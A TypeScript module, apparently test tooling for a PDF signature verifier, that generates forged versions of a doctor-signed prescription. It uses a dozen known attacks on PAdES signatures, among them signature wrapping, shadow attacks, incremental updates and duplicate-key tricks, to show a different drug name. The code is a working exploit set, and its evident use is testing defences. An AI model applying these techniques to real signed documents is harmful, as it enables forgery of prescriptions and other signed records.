import { sign } from 'node:crypto';
import type { Credential } from '#demo/psc/certificates.ts';
import { assemble } from '#pades/cms.ts';
import { digestOf, findSignatures } from '#pades/find-signatures.ts';
import { inject } from '#pades/prepare.ts';
import { signedAttributes } from '#pades/signed-attributes.ts';
import type { SigningWorld } from './signing.ts';

/** The word that a reader sees on an attacked document, and that its doctor never wrote. */
export const EVIL_WORD = 'Clonazepam';

type Objects = readonly (readonly [number, string])[];
type Rows = readonly (readonly [number, number])[];
/** A document of ours as an attacker reads it: the numbers of its objects, its tables. */
type Target = {
  pdf: Buffer;
  page: number;
  content: number;
  pages: number;
  field: number;
  /** Where the field is, as the document writes it. */
  rect: string;
  info: number;
  root: number;
  start: number;
};
type More = {
  /** The rows of the table, out of the offsets of the objects. */
  rows?: (offsets: Rows) => Rows;
  trailer?: (offsets: Rows) => string;
  /** Bytes before the objects. */
  before?: Buffer;
};

const stream = (data: string, entries = '') =>
  `<<${entries}/Length ${data.length}>>\nstream\n${data}\nendstream`;
const TEXT = `BT /F1 48 Tf 72 720 Td (${EVIL_WORD}) Tj ET`;
const FONT = '/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>';
const [EVIL, SIGNATURE, OTHER] = [900, 901, 902];
const ROOM = '0'.repeat(24_000);

function targetOf(pdf: Buffer): Target {
  const text = pdf.toString('latin1');
  const number = (pattern: RegExp) => Number([...text.matchAll(pattern)].at(-1)?.[1]);
  const page = number(/\/FT \/Sig\s[^>]*?\/P (\d+) 0 R/g);
  const dict = text.slice(text.lastIndexOf(`\n${page} 0 obj`));
  return {
    pdf,
    page,
    content: Number(/\/Contents (\d+) 0 R/.exec(dict)?.[1]),
    pages: Number(/\/Parent (\d+) 0 R/.exec(dict)?.[1]),
    field: number(/\n(\d+) 0 obj\s<<[^>]*?\/T \(Farmaceutico\)/g),
    rect: /\/T \(Farmaceutico\)[^>]*?\/Rect \[([^\]]*)\]/.exec(text)?.[1] ?? '',
    info: number(/\/Info (\d+) 0 R/g),
    root: number(/\/Root (\d+) 0 R/g),
    start: number(/startxref\s(\d+)/g),
  };
}

function evilPage({ pages, field }: Target, contents = `/Contents ${EVIL} 0 R`): string {
  return `<</Type/Page/Parent ${pages} 0 R/MediaBox[0 0 595 842]/Resources<<${FONT}>>${contents}/Annots[${field} 0 R]>>`;
}

/** Objects behind a document; without `at`, at its end. */
function write(objects: Objects, at: number): { bytes: Buffer; offsets: Rows } {
  let body = '';
  const offsets = objects.map(([number, text]) => {
    const offset = at + body.length;
    body += `${number} 0 obj\n${text}\nendobj\n`;
    return [number, offset] as const;
  });
  return { bytes: Buffer.from(body, 'latin1'), offsets };
}

function update(
  target: Target,
  objects: Objects,
  { rows = (all) => all, trailer = () => '', before }: More = {},
): Buffer {
  const head = Buffer.concat([target.pdf, before ?? Buffer.alloc(0)]);
  const { bytes, offsets } = write(objects, head.length);
  const table = rows(offsets)
    .map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n\r\n`)
    .join('');
  const { root, info, start } = target;
  const keys = `/Size 999/Root ${root} 0 R/Info ${info} 0 R/Prev ${start}${trailer(offsets)}`;
  const end = `xref\n${table}trailer\n<<${keys}>>\nstartxref\n${head.length + bytes.length}\n%%EOF\n`;
  return Buffer.concat([head, bytes, Buffer.from(end, 'latin1')]);
}

/** Objects of an attacker's own signature: its dictionary, and the pharmacist's field that holds it. */
const own = ({ page, field, rect }: Target, more = ''): Objects => [
  [
    field,
    `<</Type/Annot/Subtype/Widget/FT/Sig/T(Farmaceutico)/F 132/Rect[${rect}]/P ${page} 0 R/V ${SIGNATURE} 0 R>>`,
  ],
  [
    SIGNATURE,
    `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[${' '.repeat(50)}]/Contents<${ROOM}>/M(D:20261122193000Z)${more}>>`,
  ],
];

function signAll(bytes: Buffer, by: Credential, { authority }: Pick<SigningWorld, 'authority'>): Buffer {
  const prepared = Buffer.from(bytes);
  const range = prepared.lastIndexOf('/ByteRange[') + '/ByteRange['.length;
  const start = prepared.indexOf('<', range);
  const end = prepared.indexOf('>', start) + 1;
  prepared.write(`0 ${start} ${end} ${bytes.length - end}`.padEnd(50), range, 'latin1');
  const last = findSignatures(prepared).found.at(-1);
  if (!last) throw new Error('no hole');
  const { certificate, key } = by;
  const attributes = signedAttributes({ sha256: digestOf(prepared, last), certificate });
  const signature = sign('sha256', attributes, key);
  return inject(prepared, assemble({ attributes, signature, certificate, chain: [authority.intermediate] }));
}

/** A row of a cross-reference stream of `/W[1 4 1]`. */
function row(kind: number, value: number, last = 0): Buffer {
  const bytes = Buffer.alloc(6, last);
  bytes.writeUInt8(kind, 0);
  bytes.writeUInt32BE(value, 1);
  return bytes;
}

const text = (bytes: Buffer): string => bytes.toString('latin1');
const offsetIn = (pdf: Buffer, number: number): number => pdf.lastIndexOf(`\n${number} 0 obj`) + 1;

/** The signature of the doctor over bytes that were moved behind it, so that the file may hold others between. */
function wrapped(target: Target): Buffer {
  const { pdf } = target;
  const signature = findSignatures(pdf).found[0];
  if (!signature) throw new Error('not signed');
  const { hole, end } = signature;
  const range = `/ByteRange[0 ${hole.start} ${pdf.length} ${end - hole.end}]`;
  const contents = text(pdf.subarray(hole.start, hole.end));
  const dictionary = `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached${range}/Contents${contents}>>`;
  const objects: Objects = [
    [target.page, evilPage(target)],
    [EVIL, stream(TEXT)],
    [SIGNATURE, dictionary],
  ];
  return update(target, objects, { before: pdf.subarray(hole.end, end) });
}

/** A page inside an object stream, found by a cross-reference stream. */
function inObjectStream(target: Target): Buffer {
  const { pdf, page, root, info, start } = target;
  const head = `${page} 0 `;
  const packed = stream(`${head}${evilPage(target)}`, `/Type/ObjStm/N 1/First ${head.length}`);
  const { bytes, offsets } = write([[EVIL, stream(TEXT)], [OTHER, packed], ...own(target)], pdf.length);
  const at = pdf.length + bytes.length;
  const all = [
    [page, row(2, OTHER)] as const,
    ...offsets.map(([n, o]) => [n, row(1, o)] as const),
    [903, row(1, at)] as const,
  ];
  const index = all.map(([number]) => `${number} 1`).join(' ');
  const keys = `/Type/XRef/W[1 4 1]/Index[${index}]/Size 999/Root ${root} 0 R/Info ${info} 0 R/Prev ${start}`;
  const table = `903 0 obj\n${stream(text(Buffer.concat(all.map(([, one]) => one))), keys)}\nendobj\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([pdf, bytes, Buffer.from(table, 'latin1')]);
}

type Attack = (target: Target) => { bytes: Buffer; signed: boolean };
const asSigned = (bytes: Buffer) => ({ bytes, signed: true });
const replaced = (target: Target): Objects => [
  [target.page, evilPage(target)],
  [EVIL, stream(TEXT)],
  ...own(target),
];

const KINDS: Readonly<Record<string, Attack>> = {
  'hybrid reference': (target) => {
    const old = text(row(1, offsetIn(target.pdf, target.page)));
    const hidden = stream(old, `/Type/XRef/W[1 4 1]/Index[${target.page} 1]/Size 999`);
    const objects: Objects = [...replaced(target), [OTHER, hidden]];
    return asSigned(update(target, objects, { trailer: (all) => `/XRefStm ${all.at(-1)?.[1]}` }));
  },
  'shadow: replace': (target) =>
    asSigned(
      update(target, [
        [target.content, stream(`q Q ${TEXT}`)],
        [target.page, evilPage(target, `/Contents ${target.content} 0 R`)],
        ...own(target),
      ]),
    ),
  'shadow: hide': (target) => {
    const both = `/Contents[${target.content} 0 R ${EVIL} 0 R]`;
    const cover = `q 1 1 1 rg 0 0 595 842 re f Q ${TEXT}`;
    return asSigned(
      update(target, [[target.page, evilPage(target, both)], [EVIL, stream(cover)], ...own(target)]),
    );
  },
  'shadow: hide and replace': (target) => {
    const tree = `<</Type/Pages/Kids[${OTHER} 0 R]/Count 1>>`;
    const objects: Objects = [
      [target.pages, tree],
      [OTHER, evilPage(target)],
      [EVIL, stream(TEXT)],
      ...own(target),
    ];
    return asSigned(update(target, objects));
  },
  'signature wrapping': (target) => ({ bytes: wrapped(target), signed: false }),
  'incremental saving': (target) => ({
    bytes: update(target, [
      [target.page, evilPage(target)],
      [EVIL, stream(TEXT)],
    ]),
    signed: false,
  }),
  'repeated key in the trailer': (target) => {
    const catalog = `<</Type/Catalog/Pages 904 0 R>>`;
    const tree = `<</Type/Pages/Kids[${target.page} 0 R]/Count 1>>`;
    const objects: Objects = [...replaced(target), [903, catalog], [904, tree]];
    return asSigned(update(target, objects, { trailer: () => '/Root 903 0 R' }));
  },
  'repeated key in the page': (target) => {
    const twice = `/Contents ${target.content} 0 R/Contents ${EVIL} 0 R`;
    return asSigned(
      update(target, [[target.page, evilPage(target, twice)], [EVIL, stream(TEXT)], ...own(target)]),
    );
  },
  'repeated number of an object': (target) => {
    const at = offsetIn(target.pdf, target.page);
    const old = text(target.pdf.subarray(at, target.pdf.indexOf('endobj', at))).replace(/^\d+ 0 obj\s/, '');
    return asSigned(
      update(target, [[target.page, old], ...replaced(target)], { rows: (all) => all.slice(1) }),
    );
  },
  'repeated number in the table': (target) => {
    const old = [target.page, offsetIn(target.pdf, target.page)] as const;
    return asSigned(update(target, replaced(target), { rows: (all) => [...all, old] }));
  },
  'object stream': (target) => asSigned(inObjectStream(target)),
  'an object inside of a stream': (target) => {
    const inner = `${target.page} 0 obj\n${evilPage(target)}\nendobj\n`;
    const objects: Objects = [[OTHER, stream(inner)], [EVIL, stream(TEXT)], ...own(target)];
    return asSigned(
      update(target, objects, {
        rows: (all) => [
          ...all,
          [target.page, (all[0]?.[1] ?? 0) + `${OTHER} 0 obj\n<</Length ${inner.length}>>\nstream\n`.length],
        ],
      }),
    );
  },
};

const CERTIFIES =
  '/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</Type/TransformParams/P 2/V/1.2>>>>]';

/** A document with a second signature that certifies it anew, of somebody whom a trusted authority knows. */
export function certifiedAgain(pdf: Buffer, by: Credential, world: Pick<SigningWorld, 'authority'>): Buffer {
  const target = targetOf(pdf);
  return signAll(update(target, own(target, CERTIFIES)), by, world);
}

/** A document with a second signature, written as the attacks write it and without one. */
export function signedHonestly(pdf: Buffer, by: Credential, world: Pick<SigningWorld, 'authority'>): Buffer {
  const target = targetOf(pdf);
  return signAll(update(target, own(target)), by, world);
}

/** The kinds of attacks on a signed document that are known from the literature. */
export const ATTACKS: readonly string[] = Object.keys(KINDS);

/** A document as its doctor signed it, with one attack behind it, signed by somebody whom a trusted authority knows. */
export function attacked(
  pdf: Buffer,
  kind: string,
  by: Credential,
  world: Pick<SigningWorld, 'authority'>,
): Buffer {
  const made = KINDS[kind]?.(targetOf(pdf));
  if (!made) throw new Error(`no such attack: ${kind}`);
  const { bytes, signed } = made;
  return signed ? signAll(bytes, by, world) : bytes;
}
